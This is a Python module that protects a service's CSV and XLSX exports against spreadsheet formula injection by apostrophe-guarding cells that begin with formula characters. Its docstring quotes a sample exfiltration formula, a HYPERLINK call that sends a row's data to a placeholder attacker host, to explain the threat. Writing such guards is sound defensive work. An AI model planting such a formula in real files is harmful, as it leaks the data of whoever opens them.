"""The one guard for every cell of every CSV and XLSX file the service writes.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a leading tab or carriage return (or their full-width forms), so a comment
such as ``=HYPERLINK("http://evil.example/?"&B2, "Click")`` would send the row's answers
away when someone opens the file. Every such text cell is written with a leading apostrophe,
which spreadsheets read as "this is text". Plain numbers ("-3", "+4.5") are left alone: they
are not formulas, and figures must stay numbers.

A cell that already starts with an apostrophe gets one more, so ``read_cell`` can always undo
the guard exactly (the analysis commands read the response export back).

Write files with ``csv_writer`` (a ``csv.writer`` whose every row is guarded) or
``guarded_row`` (for an XLSX sheet's ``append``); never with a bare ``csv.writer``:
tests/security/test_downloads_are_inert.py walks every download and file we write.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
GUARD = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def guarded(value: Any) -> Any:
    """The value as it may go into a cell: text that a spreadsheet would run gets a guard."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(FORMULA_STARTS + (GUARD,)) and not _NUMBER.fullmatch(value):
        return GUARD + value
    return value


def read_cell(value: str) -> str:
    """Undo ``guarded`` on a cell read back from one of our files."""
    if value.startswith(GUARD) and value[1:].startswith(FORMULA_STARTS + (GUARD,)):
        return value[1:]
    return value


def guarded_row(row: Iterable[Any]) -> list[Any]:
    return [guarded(value) for value in row]


class _GuardedWriter:
    """``csv.writer`` with every cell of every row guarded."""

    def __init__(self, fileobj: IO[str], **kwargs):
        self._writer = csv.writer(fileobj, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(guarded_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj: IO[str], **kwargs) -> _GuardedWriter:
    """A CSV writer for any file the service writes (same arguments as ``csv.writer``)."""
    return _GuardedWriter(fileobj, **kwargs)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole guarded CSV file as UTF-8 with a byte-order mark (so Excel reads it as UTF-8)."""
    import io

    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
